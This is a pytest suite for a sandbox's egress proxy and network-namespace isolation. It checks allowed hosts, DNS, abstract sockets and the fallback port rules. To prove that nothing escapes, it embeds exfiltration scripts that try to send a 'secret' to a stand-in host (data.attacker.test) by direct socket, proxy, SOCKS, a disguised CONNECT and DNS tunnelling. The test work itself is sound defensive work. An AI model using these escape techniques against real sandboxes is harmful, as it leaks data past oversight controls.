"""Egress by host, through the engine and the real launchers (orchestrator/sandbox/network.py, launcher.c, netns.py,
orchestrator/egress/): each command in a network namespace of its own whose only way out is the proxy.

The attacker is a listener on the host (TCP on 127.0.0.1, UDP as a DNS resolver, an abstract Unix socket): it must
receive nothing, by any route, from any launcher. Allowed hosts are local stand-ins the policy lists. The proxy is
the one the engine starts (per user: the tests' own, under their state directory).
"""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from orchestrator import sandbox
from orchestrator.sandbox import compiled
from tests.egress.support import Upstream, pattern
from tests.sandbox.conftest import Host, needs_landlock
from tests.sandbox.test_pidns import _can_isolate

#: the launcher per kind: git mode is chosen by the analyzer for a command that names git or runs code while an
#: intent is selected; with none selected (the read plan) the compiled launcher serves
KINDS = {"compiled": "", "python": "", "git": "git status >/dev/null 2>&1; "}
pytestmark = [needs_landlock, pytest.mark.skipif(not _can_isolate(), reason="the kernel refuses namespaces here")]


def policy(sws: Path, network: str) -> None:
    (sws / ".orchestration" / "policy.yaml").write_text(
        "version: 1\nsandbox:\n  writable: ['{tmp}', .pytest_cache]\n" + textwrap.indent(network, "  ") + "\n")


#: run what follows where the kernel refuses network namespaces (a user namespace whose network namespace count is
#: 0: ``unshare(CLONE_NEWNET)`` fails with ENOSPC, the other namespaces are still made)
NO_NETNS = ["unshare", "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_net_namespaces && exec "$@"', "sh"]


def _netns_can_be_refused() -> bool:
    return subprocess.run([*NO_NETNS, "unshare", "-n", "true"], capture_output=True, check=False).returncode == 1


def run(sws: Path, kind: str, command: str, monkeypatch: pytest.MonkeyPatch, *, timeout: float = 120,
        prefix: tuple[str, ...] = (), **kw: object) -> subprocess.CompletedProcess[str]:
    if kind != "compiled":
        monkeypatch.setenv("ORCH_SANDBOX_LAUNCHER", "python")
    else:
        monkeypatch.delenv("ORCH_SANDBOX_LAUNCHER", raising=False)
    verdict = _pre(sws, KINDS[kind] + command, intent=kind == "git")
    assert ("--git" in (sandbox.options_of(verdict.command) or [])) == (kind == "git")
    return subprocess.run([*prefix, "/bin/bash", "-c", verdict.command], cwd=sws, capture_output=True, text=True,
                          timeout=timeout, **kw)  # type: ignore[call-overload]


def _pre(sws: Path, command: str, *, intent: bool = False) -> Any:
    """The verdict for ``command``: with an intent selected (a script runs in git mode then), or none (the read
    plan, which runs any launcher)."""
    if intent:
        verdict = Host(sws).pre(command, sandbox=True)
    else:
        from orchestrator.engine.pipeline import Governor
        from orchestrator.engine.tools import to_call

        verdict = Governor(sws, approval_channel="deny").pre(
            to_call("Bash", {"command": command}, session_id="r", agent="claude-code", cwd=str(sws)), sandbox=True)
    assert verdict.allowed and verdict.command, verdict
    return verdict


@pytest.fixture(params=[0, 443], ids=["any-port", "port-443"])
def attacker(request: pytest.FixtureRequest) -> Iterator[socket.socket]:
    """The attacker's server on the host: on a port of its own, and on 443 (a port the fallback rules allow, and the
    one issue 28's "Done when" names)."""
    try:
        srv = socket.create_server(("127.0.0.1", request.param))
    except OSError as exc:  # 443 needs root (or a free port)
        pytest.skip(f"cannot listen on 127.0.0.1:{request.param}: {exc}")
    srv.setblocking(False)
    yield srv
    srv.close()


def received_nothing(srv: socket.socket) -> bool:
    try:
        srv.accept()
    except BlockingIOError:
        return True
    return False


#: every way a script can try to reach the attacker at 127.0.0.1:PORT (argv[1]); prints one word per attempt
EXFIL = textwrap.dedent("""\
    import os, socket, sys, urllib.request
    port = int(sys.argv[1])
    def attempt(fn):
        try:
            fn(); print("SENT")
        except Exception as e:
            print(type(e).__name__)
    def direct():
        s = socket.create_connection(("127.0.0.1", port), timeout=10); s.sendall(b"secret")
    def through_proxy():
        urllib.request.urlopen(f"http://127.0.0.1:{port}/?d=secret", timeout=10)
    def through_proxy_by_name():
        urllib.request.urlopen(f"https://data.attacker.test:{port}/?d=secret", timeout=10)
    def socks():
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
        s.sendall(b"\\x05\\x01\\x00\\x01" + socket.inet_aton("127.0.0.1") + port.to_bytes(2, "big"))
        if s.recv(10)[1] != 0: raise PermissionError("socks refused")
        s.sendall(b"secret")
    def disguised():
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(f"CONNECT 0x7f.1:{port} HTTP/1.1\\r\\n\\r\\n".encode())
        if b" 200 " not in s.recv(200): raise PermissionError("refused")
    for fn in (direct, through_proxy, through_proxy_by_name, socks, disguised):
        attempt(fn)
""")


@pytest.mark.parametrize("kind", list(KINDS))
def test_an_attacker_on_the_host_receives_nothing_by_any_route(sws: Path, kind: str, attacker: socket.socket,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    (sws / "src" / "x.py").write_text(EXFIL)
    port = attacker.getsockname()[1]
    proc = run(sws, kind, f"python3 src/x.py {port}", monkeypatch)
    words = proc.stdout.split()
    assert len(words) == 5 and "SENT" not in words, (proc.stdout, proc.stderr)
    assert received_nothing(attacker)
    # a line the person sees names the host and the key that would allow it
    assert f"orchestrator sandbox: network: data.attacker.test:{port} is not an allowed host" in proc.stderr
    assert "sandbox.network.allow" in proc.stderr


@pytest.mark.parametrize("kind", ["compiled", "python"])
def test_dns_carries_nothing_out(sws: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name lookup in the sandbox has no resolver to reach, and a query sent to one by hand goes nowhere."""
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind(("127.0.0.1", 0))
    resolver.setblocking(False)
    (sws / "src" / "d.py").write_text(textwrap.dedent("""\
        import socket, sys, time
        t = time.monotonic()
        try:
            socket.getaddrinfo("c2VjcmV0.data.attacker.test", 443); print("RESOLVED")
        except OSError as e:
            print("NORESOLVE")
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x00\\x00\\x01\\x00\\x01",
                     ("127.0.0.1", int(sys.argv[1])))
            print("SENT")
        except OSError as e:
            print(type(e).__name__)
        print(time.monotonic() - t < 10)
    """))
    proc = run(sws, kind, f"python3 src/d.py {resolver.getsockname()[1]}; getent hosts c2VjcmV0.attacker.test; "
                          "echo getent=$?", monkeypatch)
    lines = proc.stdout.split()
    assert lines[0] == "NORESOLVE" and lines[2] == "True" and lines[3] == "getent=2", (proc.stdout, proc.stderr)
    with pytest.raises(BlockingIOError):
        resolver.recvfrom(512)  # the datagram went to the namespace's own loopback, not the host's
    resolver.close()


@pytest.mark.parametrize("kind", ["compiled", "python"])
def test_abstract_sockets_of_the_host_are_out_of_reach(sws: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    name = f"\0orch-egress-test-{os.getpid()}-{kind}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen()
    server.setblocking(False)
    (sws / "src" / "a.py").write_text(textwrap.dedent(f"""\
        import socket
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect({name!r}); print("CONNECTED")
        except OSError as e:
            print(type(e).__name__)
    """))
    proc = run(sws, kind, "python3 src/a.py", monkeypatch)
    assert proc.stdout.strip() == "ConnectionRefusedError", proc.stderr
    assert received_nothing(server)
    server.close()


@pytest.mark.parametrize("kind", list(KINDS))
def test_an_allowed_host_is_reached_and_a_download_arrives_byte_exact(sws: Path, kind: str,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    up = Upstream("127.0.0.2")
    policy(sws, "network:\n  allow: ['127.0.0.2']")
    size = 64 * 1024 * 1024 + 4093  # not a multiple of any buffer: a lost tail shows
    (sws / "src" / "g.py").write_text(textwrap.dedent(f"""\
        import hashlib, socket
        def tunnel():
            s = socket.create_connection(("127.0.0.1", 3128))
            s.sendall(b"CONNECT 127.0.0.2:{up.port} HTTP/1.1\\r\\n\\r\\n")
            head = b""
            while not head.endswith(b"\\r\\n\\r\\n"):
                head += s.recv(1)
            return s, head.split(b"\\r\\n")[0].decode()
        s, status = tunnel()
        s.sendall(b"download {size}")
        h, n = hashlib.sha256(), 0
        while chunk := s.recv(1 << 20):
            h.update(chunk); n += len(chunk)
        print(status, n, h.hexdigest())
        s, _ = tunnel()
        s.sendall(b"upload-" * 100000); s.shutdown(socket.SHUT_WR)
        print(b"".join(iter(lambda: s.recv(65536), b"")).decode())
    """))
    proc = run(sws, kind, "python3 src/g.py", monkeypatch)
    up.close()
    lines = proc.stdout.split("\n")
    assert lines[0] == f"HTTP/1.1 200 Connection established {size} {hashlib.sha256(pattern(size)).hexdigest()}", \
        (proc.stdout, proc.stderr)
    assert lines[1] == f"700000 {hashlib.sha256(b'upload-' * 100000).hexdigest()}"


@pytest.mark.parametrize("kind", ["compiled", "python"])
def test_a_local_server_of_the_command_itself_is_reached_directly(sws: Path, kind: str,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A test suite's own server on any port (which the port rules refused before) works inside the namespace."""
    (sws / "src" / "s.py").write_text(textwrap.dedent("""\
        import http.server, threading, urllib.request
        srv = http.server.HTTPServer(("127.0.0.1", 8765), http.server.SimpleHTTPRequestHandler)
        threading.Thread(target=srv.handle_request, daemon=True).start()
        print(urllib.request.urlopen("http://localhost:8765/src/s.py", timeout=20).status)
    """))
    proc = run(sws, kind, "python3 src/s.py", monkeypatch)
    assert proc.stdout.strip() == "200", proc.stderr


@pytest.mark.parametrize("kind", ["compiled", "python"])
def test_the_proxy_variables_are_set_and_the_hosts_own_proxy_is_not(sws: Path, kind: str,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://corp-proxy.example:8080")
    proc = run(sws, kind, "env | grep -i -E '^(https?|all|no)_proxy=|^NODE_USE_ENV_PROXY=|^GIT_SSH_COMMAND=' | sort",
               monkeypatch)
    env = dict(line.split("=", 1) for line in proc.stdout.splitlines())
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        assert env[name] == "http://127.0.0.1:3128", proc.stdout
    assert env["NO_PROXY"] == env["no_proxy"] == "localhost,127.0.0.1,::1"
    assert env["NODE_USE_ENV_PROXY"] == "1" and "ProxyCommand=" in env["GIT_SSH_COMMAND"]


def _locked(path: Path) -> bool:
    from orchestrator.egress.supervise import running

    return running(path.parent)


def _spec(directory: str, extra: list[str]) -> str:
    spec = Path(sandbox._write_spec(directory, ["-w", "/dev/null", *extra]))
    return spec.name[:-len(".spec")]


@pytest.mark.parametrize("launcher", [compiled.STUB, compiled.PYTHON_STUB])
def test_no_proxy_means_no_network_and_a_line_that_says_why(sws: Path, tmp_path: Path, launcher: str,
                                                            attacker: socket.socket) -> None:
    directory = str(sws / ".orchestration" / "run" / "sandbox")
    assert compiled.install(directory) is not None
    missing = tmp_path / "no-proxy-here"
    missing.mkdir()
    ident = _spec(directory, ["--netns", "on", "--egress", str(missing), "--egress-plan", directory + "/x.egress",
                              "--egress-env", "HTTPS_PROXY=http://127.0.0.1:3128"])
    port = attacker.getsockname()[1]
    (sws / "src" / "x.py").write_text(EXFIL)
    proc = subprocess.run([os.path.join(directory, launcher), ident, "--", f"python3 src/x.py {port}"], cwd=sws,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0 and "SENT" not in proc.stdout, proc.stderr
    assert "no network for this command: cannot reach the egress proxy" in proc.stderr
    assert received_nothing(attacker)


@pytest.mark.parametrize("attacker", [0], indirect=True)  # on 443 the fallback's ports reach it (security.md)
@pytest.mark.parametrize("kind", ["compiled", "python"])
def test_without_a_pid_namespace_the_port_rules_hold_instead(sws: Path, kind: str, attacker: socket.socket,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """``sandbox.pid_namespace: false``: no init to run the forwarder, so no network namespace either; the TCP
    port rules (``ports``) apply as before egress by host, and the listener on a high port is still unreachable."""
    from orchestrator.sandbox import landlock

    if landlock.abi() < 4:
        pytest.skip("TCP port rules need Landlock ABI 4")
    policy(sws, "pid_namespace: false")
    (sws / "src" / "c.py").write_text("import socket, sys\ntry:\n socket.create_connection(('127.0.0.1', "
                                      "int(sys.argv[1])), timeout=10); print('SENT')\nexcept OSError as e: "
                                      "print(type(e).__name__)\n")
    proc = run(sws, kind, f"python3 src/c.py {attacker.getsockname()[1]}; env | grep -c '^HTTP_PROXY=' ",
               monkeypatch)
    assert proc.stdout.split() == ["PermissionError", "0"], proc.stderr
    assert received_nothing(attacker)


@pytest.mark.skipif(not _netns_can_be_refused(), reason="cannot make a user namespace that refuses network ones")
@pytest.mark.parametrize("attacker", [0], indirect=True)
@pytest.mark.parametrize("kind", list(KINDS))
def test_where_the_kernel_refuses_a_network_namespace_the_port_rules_hold(sws: Path, kind: str,
                                                                          attacker: socket.socket,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Every launcher falls back to the TCP port rules (``ports``) when ``unshare(CLONE_NEWNET)`` fails: the
    listener on a high port is refused by Landlock, no proxy variable is set; and ``orch doctor`` says so."""
    from orchestrator.sandbox import landlock

    if landlock.abi() < 4:
        pytest.skip("TCP port rules need Landlock ABI 4")
    (sws / "src" / "c.py").write_text("import socket, sys\ntry:\n socket.create_connection(('127.0.0.1', "
                                      "int(sys.argv[1])), timeout=10); print('SENT')\nexcept OSError as e: "
                                      "print(type(e).__name__)\n")
    proc = run(sws, kind, f"python3 src/c.py {attacker.getsockname()[1]}; env | grep -c '^HTTP_PROXY=' ",
               monkeypatch, prefix=tuple(NO_NETNS))
    assert proc.stdout.split() == ["PermissionError", "0"], proc.stderr
    assert received_nothing(attacker)
    doctor = subprocess.run([*NO_NETNS, sys.executable, "-c", textwrap.dedent(f"""\
        from orchestrator.config.checks import check_sandbox
        from orchestrator.config.workspace import Workspace
        from pathlib import Path
        for f in check_sandbox(Workspace(Path({str(sws)!r}))):
            if f.check == "sandbox-network":
                print(f.status, f.message)
        """)], cwd=sws, capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
    assert doctor.stdout.startswith("warn the kernel refused a network namespace"), doctor.stdout + doctor.stderr
    assert "TCP port rules (22,53,80,443)" in doctor.stdout


@pytest.mark.skipif(not _netns_can_be_refused(), reason="cannot make a nested user namespace here")
def test_a_proxy_started_in_a_nested_user_namespace_does_not_serve_the_hosts_launchers(
        sws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A proxy started from a nested user namespace (``orch doctor`` or a hook inside a container's) cannot inspect
    the network namespaces of the host's launchers, so it would refuse every one of them: each user namespace has
    its own proxy directory, and a command of the host still reaches its allowed host."""
    import json
    import signal

    from tests.waiting import wait_until

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))  # proxies of this test's own
    nested = subprocess.run([*NO_NETNS, sys.executable, "-c", "from orchestrator.egress import paths, supervise; "
                             "d = paths.egress_dir(); supervise.ensure(d); print(d)"], capture_output=True, text=True,
                            check=True, env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
    nested_dir = Path(nested.stdout.strip())
    wait_until(lambda: (nested_dir / "info.json").exists(), what="the nested proxy to come up")
    up = Upstream("127.0.0.2")
    policy(sws, "network:\n  allow: ['127.0.0.2']")
    (sws / "src" / "u.py").write_text(textwrap.dedent(f"""\
        import socket
        s = socket.create_connection(("127.0.0.1", 3128))
        s.sendall(b"CONNECT 127.0.0.2:{up.port} HTTP/1.1\\r\\n\\r\\n")
        print(s.recv(200).split(b"\\r\\n")[0].decode())
    """))
    proxies = (tmp_path / "state").glob("orchestrator/egress-*/info.json")
    try:
        proc = run(sws, "compiled", "python3 src/u.py", monkeypatch)
        proxies = list(proxies)
    finally:
        up.close()
        for info in proxies:
            os.kill(json.loads(info.read_text())["pid"], signal.SIGTERM)
    assert proc.stdout.strip() == "HTTP/1.1 200 Connection established", (proc.stdout, proc.stderr)
    assert len(proxies) == 2  # the nested one, and the host's


def test_deny_leaves_no_way_out(sws: Path, attacker: socket.socket, monkeypatch: pytest.MonkeyPatch) -> None:
    policy(sws, "network: deny")
    (sws / "src" / "x.py").write_text(EXFIL)
    proc = run(sws, "compiled", f"python3 src/x.py {attacker.getsockname()[1]}", monkeypatch)
    assert "SENT" not in proc.stdout and len(proc.stdout.split()) == 5, proc.stderr
    assert received_nothing(attacker)


def test_the_proxy_stopping_mid_command_is_said(sws: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from orchestrator.egress.paths import egress_dir
    from tests.waiting import wait_until

    flag = tmp_path / "go"
    command = f"echo ready; until [ -e {flag} ]; do :; done; curl -sS -m 5 http://127.0.0.2:9/ ; echo done"
    monkeypatch.delenv("ORCH_SANDBOX_LAUNCHER", raising=False)
    verdict = _pre(sws, command)
    proc = subprocess.Popen(["/bin/bash", "-c", verdict.command], cwd=sws, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline() == "ready\n"
    info = egress_dir() / "info.json"
    import json

    pid = json.loads(info.read_text())["pid"]
    os.kill(pid, 9)
    wait_until(lambda: not (egress_dir() / "lock").exists() or not _locked(egress_dir() / "lock"),
               what="the proxy to die")
    flag.touch()
    out, err = proc.communicate(timeout=120)
    assert out.endswith("done\n")
    assert "the egress proxy stopped: no network for the rest of this command" in err


def test_a_burst_of_connections_is_served(sws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An installer opens many connections at once: none waits on a small backlog, none is lost."""
    up = Upstream("127.0.0.2")
    policy(sws, "network:\n  allow: ['127.0.0.2']")
    (sws / "src" / "b.py").write_text(textwrap.dedent(f"""\
        import socket, threading
        ok = []
        def one(i):
            s = socket.create_connection(("127.0.0.1", 3128), timeout=60)
            s.sendall(b"CONNECT 127.0.0.2:{up.port} HTTP/1.1\\r\\n\\r\\n")
            head = b""
            while not head.endswith(b"\\r\\n\\r\\n"):
                head += s.recv(1)
            s.sendall(str(i).encode()); s.shutdown(socket.SHUT_WR)
            ok.append(b"".join(iter(lambda: s.recv(100), b"")).split()[0] == str(len(str(i))).encode())
        threads = [threading.Thread(target=one, args=(i,)) for i in range(200)]
        for t in threads: t.start()
        for t in threads: t.join()
        print(len(ok), all(ok))
    """))
    proc = run(sws, "compiled", "python3 src/b.py", monkeypatch)
    up.close()
    assert proc.stdout.strip() == "200 True", proc.stderr


def test_plain_tools_through_the_proxy(sws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """curl (CONNECT and plain HTTP via HTTPS_PROXY/HTTP_PROXY) to an allowed stand-in."""
    import functools
    import http.server

    www = sws / "www"
    www.mkdir()
    (www / "hello.txt").write_text("hello through the proxy\n")
    srv = http.server.ThreadingHTTPServer(("127.0.0.2", 0), functools.partial(http.server.SimpleHTTPRequestHandler,
                                                                               directory=str(www)))
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    policy(sws, "network:\n  allow: ['127.0.0.2']")
    proc = run(sws, "compiled", f"curl -sS -m 20 http://127.0.0.2:{srv.server_address[1]}/hello.txt", monkeypatch)
    srv.shutdown()
    assert proc.stdout == "hello through the proxy\n", (srv.server_address, proc.stderr)


def test_ssh_goes_through_its_proxy_command(sws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """git over SSH: GIT_SSH_COMMAND's ProxyCommand (sshproxy.py) tunnels to an allowed host, byte for byte."""
    up = Upstream("127.0.0.2")
    policy(sws, "network:\n  allow: ['127.0.0.2']")
    helper = Path(sandbox.__file__).parent / "sshproxy.py"
    proc = run(sws, "compiled", f"printf 'ssh-bytes' | {sys.executable} -I -S {helper} 127.0.0.2 {up.port}; "
                                f"{sys.executable} -I -S {helper} data.attacker.test 22 </dev/null; echo rc=$?",
               monkeypatch)
    up.close()
    assert proc.stdout.startswith(f"9 {hashlib.sha256(b'ssh-bytes').hexdigest()}"), (proc.stdout, proc.stderr)
    assert proc.stdout.rstrip().endswith("rc=1") and "data.attacker.test:22 refused" in proc.stderr


def test_doctor_says_what_holds_the_network(sws: Path) -> None:
    from orchestrator.config.checks import check_sandbox
    from orchestrator.config.workspace import Workspace

    def finding() -> tuple[str, str]:
        found = [f for f in check_sandbox(Workspace(sws)) if f.check == "sandbox-network"]
        return found[0].status, found[0].message

    status, message = finding()
    assert status == "ok" and "own network namespace" in message and "egress proxy" in message
    policy(sws, "network:\n  allow: ['api.example.test']")
    assert "api.example.test" in finding()[1]
    policy(sws, "pid_namespace: false")
    status, message = finding()
    assert status == "warn" and "TCP port rules (22,53,80,443)" in message
    policy(sws, "network: allow")
    assert finding()[0] == "warn"
